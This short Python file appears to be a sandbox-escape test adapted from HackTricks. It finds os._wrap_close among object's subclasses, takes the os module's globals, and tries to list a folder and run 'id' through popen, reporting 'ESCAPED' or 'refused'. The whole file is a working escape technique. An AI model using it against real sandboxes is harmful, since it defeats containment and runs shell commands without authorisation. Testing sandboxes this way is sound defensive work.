# expect: done
# idea: find os._wrap_close among the subclasses of object and list a folder with its module's globals
# source: HackTricks
def tick(ctx):
    for kind in type.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            space = kind.__init__.__globals__
            try:
                print("ESCAPED: listed", space["listdir"](ctx.config["folder"]))
            except Exception as error:
                print("refused:", error)
            try:
                print("ESCAPED: a shell answered", space["popen"]("id").read())
            except Exception as error:
                print("refused:", error)
